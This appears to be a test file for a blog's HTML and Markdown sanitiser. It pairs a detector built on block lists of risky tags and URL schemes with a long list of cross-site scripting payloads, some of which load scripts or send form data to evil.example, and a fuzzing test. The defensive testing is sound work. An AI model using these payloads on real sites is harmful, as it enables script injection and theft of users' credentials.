// What strangers and careless editors could put into a post, a line a kind. Nothing of it may run in a reader's
// browser, load a frame, send a form, or stand in for a part of the page.
import fc from 'fast-check';
import type { Element } from 'hast';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { toHtml } from '../../lib/content/text/html';

const parser = unified().use(rehypeParse, { fragment: true });

const TAGS =
  /^(script|style|iframe|frame|frameset|object|embed|applet|form|button|select|textarea|link|meta|base|svg|template|noscript|portal|dialog|marquee|plaintext|xmp|title|slot)$/;
const ADDRESSES = [
  'href',
  'src',
  'poster',
  'cite',
  'action',
  'formAction',
  'data',
  'background',
  'ping',
  'longDesc',
  'xLinkHref',
  'srcDoc',
  'manifest',
  'codeBase',
  'classId',
  'profile',
  'dynsrc',
  'lowsrc',
];
const SAFE = /^(https?:|mailto:|tel:|sms:|irc|xmpp:|#|\/(?!\/)|\.{0,2}\/|[^:]*$)/i;
const OF_THE_PAGE = ['content', '__next', '__NEXT_DATA__', 'main', 'next'];

/** Everything in the HTML that could do something, found by parsing it as a browser does. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  const ids = new Set<string>();
  visit(parser.parse(html), (node) => {
    if (node.type === 'comment' || node.type === 'doctype' || node.type === 'raw') dangers.push(node.type);
    if (node.type !== 'element') return;
    const { tagName, properties } = node as Element;
    if (TAGS.test(tagName)) dangers.push(`<${tagName}>`);
    if (tagName === 'input' && properties.type !== 'checkbox') dangers.push('<input>');
    for (const [name, value] of Object.entries(properties)) {
      const text = [value ?? ''].flat().join(' ');
      if (/^on/i.test(name)) dangers.push(`${name}=`);
      if (
        [
          'style',
          'name',
          'srcDoc',
          'is',
          'slot',
          'target',
          'tabIndex',
          'accessKey',
          'contentEditable',
          'autoFocus',
          'autoPlay',
          'ping',
          'form',
          'formAction',
        ].includes(name) &&
        !(tagName === 'math')
      )
        dangers.push(`${name}=`);
      // As a browser reads an address: without what it leaves out.
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is left out
      if (ADDRESSES.includes(name) && !SAFE.test(text.replace(/[\u0000-\u0020]/g, '')))
        dangers.push(`${name}=${text}`);
      if (name === 'srcSet' && /(script|data):/i.test(text)) dangers.push(`srcset=${text}`);
    }
    const id = typeof properties.id === 'string' ? properties.id : null;
    if (id !== null && (OF_THE_PAGE.includes(id) || ids.has(id))) dangers.push(`id=${id}`);
    if (id !== null) ids.add(id);
  });
  return dangers;
}

const ATTACKS = [
  // Scripts
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<script\n>steal()</script\n>',
  '<script type="module">import "//evil.example/a.js"</script>',
  '<script>/*</script><script>*/steal()</script>',
  '<<script>steal();//<</script>',
  '<noscript><p title="</noscript><script>steal()</script>">',
  '<script src="https://gist.github.com/x.js" onload="steal()"></script>',
  '<script src="https://gist.github.com.evil.example/x.js"></script>',
  // Handlers
  '<img src=x onerror=steal()>',
  '<img src="x" oNeRrOr="steal()">',
  '<img/src=x/onerror=steal()>',
  '<img src=x:x onerror\u000b=steal()>',
  '<body onload=steal()>x</body>',
  '<details open ontoggle=steal()>x</details>',
  '<video><source onerror="steal()"></video>',
  '<video controls src=x onloadstart=steal()>x</video>',
  '<audio src onerror=steal()></audio>',
  '<p onpointerenter=steal() tabindex=1 autofocus onfocus=steal()>x</p>',
  '<a href="https://a.example" onclick="steal()" onmouseover=steal()>x</a>',
  '<marquee onstart=steal()>x</marquee>',
  '<div style="animation-name:x" onanimationstart="steal()">x</div>',
  // Addresses that run
  '<a href="javascript:steal()">x</a>',
  '<a href="JaVaScRiPt:steal()">x</a>',
  '<a href=" javascript:steal()">x</a>',
  '<a href="java\tscript:steal()">x</a>',
  '<a href="java\nscript:steal()">x</a>',
  '<a href="&#106;avascript:steal()">x</a>',
  '<a href="&#x6A&#x61vascript&colon;steal()">x</a>',
  '<a href="\u0001javascript:steal()">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<img src="javascript:steal()">',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  '<img data-src="javascript:steal()" src="data:,">',
  '<video src="javascript:steal()" poster="javascript:steal()"></video>',
  '<blockquote cite="javascript:steal()">x</blockquote>',
  '<img srcset="javascript:steal() 1x, data:text/html,x 2x">',
  '<iframe src="javascript:steal()"></iframe>',
  '<iframe src="data:text/html,<script>steal()</script>"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<iframe title="<img src=x onerror=steal()>" src="https://a.example"></iframe>',
  '<iframe src="https://a.example/&quot; onload=&quot;steal()"></iframe>',
  '<object data="javascript:steal()"></object>',
  '<embed src="javascript:steal()">',
  '<object data="x.svg"><param name="a" value="b"></object>',
  '<lite-youtube videoid="x&quot;onload=steal()"></lite-youtube>',
  // Other languages within HTML
  '<svg onload=steal()></svg>',
  '<svg><script>steal()</script></svg>',
  '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:steal() /></svg>',
  '<svg><foreignObject><iframe src=javascript:steal()></foreignObject></svg>',
  '<svg><style><img src="</style><img src=x onerror=steal()>"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<math href="javascript:steal()">x</math>',
  '<math><annotation-xml encoding="text/html"><script>steal()</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>',
  // Where parsers part
  '<!--><script>steal()</script>-->',
  '<!--[if gte IE 4]><script>steal()</script><![endif]-->',
  '<![CDATA[<script>steal()</script>]]>',
  '<textarea><script>steal()</script></textarea><title><img src=x onerror=steal()></title>',
  '<xmp><img src="</xmp><img src=x onerror=steal()>"></xmp>',
  '<noembed><img src="</noembed><img src=x onerror=steal()>"></noembed>',
  '<template><script>steal()</script></template>',
  '<select><style></select><img src=x onerror=steal()></style>',
  '<plaintext><script>steal()</script>',
  '<p title="<!--"><img title="--><img src=x onerror=steal()>">',
  '<a title="`<img src=x onerror=steal()>`">x</a>',
  '<table><td><style></td><img src=x onerror=steal()></style></table>',
  '<?xml version="1.0"?><script>steal()</script>',
  '<img src="x` `<script>steal()</script>"` `>',
  // What changes the page
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:steal())">x</p>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<link rel="import" href="//evil.example/a.html">',
  '<meta http-equiv=refresh content="0;url=javascript:steal()">',
  '<base href="https://evil.example/">',
  '<div id="__NEXT_DATA__">{"props":{}}</div>',
  '<div id="__next">x</div><div id="content">y</div>',
  '<h2 id="content">Content</h2><h2>Content</h2><h1 id="main">Main</h1>',
  '<p id="user-content-a">1</p><p id="a">2</p><p id="a">3</p>',
  '<a name="cookie"></a><img name="cookie"><a id="location" name="x">x</a>',
  '<form id="forms" name="body"><input name="action"></form>',
  '<form action="https://evil.example"><input type=password><button formaction="javascript:steal()">Sign in</button></form>',
  '<input type="image" src="x" onerror="steal()"><isindex action="javascript:steal()">',
  '<a href="https://a.example" target="_blank" ping="https://evil.example">x</a>',
  '<details open><summary accesskey="x" onclick="steal()">x</summary></details>',
  '<x-custom is="y" onclick="steal()">x</x-custom><slot name="a">x</slot>',
  '<dialog open>Sign in</dialog><portal src="https://evil.example"></portal>',
  '<body background="javascript:steal()"><table background="javascript:steal()"><tr><td>x</td></tr></table></body>',
  // What was added for editors
  '<div class="kg-toggle-card"><h4 class="kg-toggle-heading-text"><img src=x onerror=steal()></h4><div class="kg-toggle-content"><script>steal()</script></div></div>',
  '<div class="kg-product-card-rating"><script>steal()</script></div>',
  '<figure class="kg-video-card anchor hljs"><video src="https://a.example/a.mp4" autoplay onplay=steal()></video></figure>',
  '<code class="math-inline">\\href{javascript:steal()}{x}</code>',
  '<code class="language-math math-display">\\htmlClass{a}{x} \\includegraphics{javascript:steal()} \\text{<img src=x onerror=steal()>}</code>',
];

const IN_MARKDOWN = [
  '[x](javascript:steal())',
  '[x](<java\nscript:steal()>)',
  '[x](javascript&colon;steal())',
  '![x](javascript:steal())',
  '[x]: javascript:steal()\n\n[x]',
  '<javascript:steal()>',
  '[x](https://a.example "\\" onmouseover=steal() x=\\"")',
  '![" onerror=steal() x="](x.png)',
  '![x](x.png){: onerror="steal()" style="x" width="1\\" onload=steal()" id="__next"}',
  '# Content {#content}\n\n# Content\n\n# __next',
  'Text.\n{: onclick="steal()" id="__NEXT_DATA__"}',
  '$\\href{javascript:steal()}{x}$ and $\\url{javascript:steal()}$ and $\\text{<script>steal()</script>}$',
  '$$\n\\htmlData{a=b}{x} <img src=x onerror=steal()>\n$$',
  '```js title="<img src=x onerror=steal()>"\n</code></pre><script>steal()</script>\n```',
  '```"><script>steal()</script>\nx\n```',
  ':::note <img src=x onerror=steal()>\n<script>steal()</script>\n:::',
  ':::details{onclick="steal()" style="x"}\nx\n:::',
  '> [!NOTE] <img src=x onerror=steal()>\n> <script>steal()</script>',
  '[[javascript:steal()]] and [[x|<img src=x onerror=steal()>]] and ![[x.png" onerror="steal()|300]]',
  '==<img src=x onerror=steal()>== and %%<script>steal()</script>%%',
  '{% youtube "javascript:steal()" %} {% embed javascript:steal() %}',
  '{% youtube x"onload="steal() %} {% gist "><script>steal()</script> %}',
  '{{< figure src="javascript:steal()" alt="](javascript:steal())" link="javascript:steal()" >}}',
  '{% raw %}<script>steal()</script>{% endraw %}',
  '{% highlight js %}</code><script>steal()</script>{% endhighlight %}',
  'x[^1]\n\n[^1]: <img src=x onerror=steal()>',
  'term\n: <img src=x onerror=steal()>',
  '| a |\n|---|\n| <img src=x onerror=steal()> |',
  '\\(\\href{javascript:steal()}{x}\\)',
];

test.each(ATTACKS)('in HTML and in Markdown: %s', async (attack) => {
  expect(dangersIn(await toHtml({ content: attack, format: 'html' }))).toEqual([]);
  expect(
    dangersIn(await toHtml({ content: `Before.\n\n${attack}\n\nAfter ${attack} it.`, format: 'markdown' })),
  ).toEqual([]);
});

test.each(IN_MARKDOWN)('in Markdown: %s', async (attack) => {
  expect(dangersIn(await toHtml({ content: attack, format: 'markdown' }))).toEqual([]);
});

const RUNS = 200;

// Signs that open something in one of the languages that meet here.
const SIGNS = [
  '\n',
  '\n\n',
  ' ',
  '<',
  '>',
  '"',
  "'",
  '`',
  '```\n',
  '$',
  '$$',
  '*',
  '_',
  '[',
  '](',
  ')',
  '{',
  '}',
  '{:',
  ':::note\n',
  ':::\n',
  '[[',
  ']]',
  '|',
  '{% raw %}',
  '{% endraw %}',
  '{{< ',
  ' >}}',
  '<div>',
  '</p>',
  '<!--',
  '-->',
  '<pre>',
  '    ',
  '> ',
  '- ',
  ': ',
  '&lt;',
  '&quot;',
  '\\',
  '[^1]',
  '[^1]: ',
  '# ',
  '| a |\n|---|\n',
  '~~',
  '==',
  '%%',
  '한글',
];

test('in any mixture, and no mixture is too much', async () => {
  const pieces = fc.array(fc.constantFrom(...SIGNS, ...ATTACKS, ...IN_MARKDOWN), {
    minLength: 2,
    maxLength: 12,
  });
  const check = async (list: string[]) => {
    const content = list.join('');
    expect(dangersIn(await toHtml({ content, format: 'markdown' }))).toEqual([]);
    expect(dangersIn(await toHtml({ content, format: 'html' }))).toEqual([]);
  };
  await fc.assert(fc.asyncProperty(pieces, check), { seed: 7, numRuns: RUNS });
});

test('the dangers are seen where they are', () => {
  const all =
    '<img src=x onerror=a()><a href="javascript:a()" style="x" name="b">x</a><script></script><p id="__next"><!--x-->';
  expect(dangersIn(all)).toHaveLength(7);
});
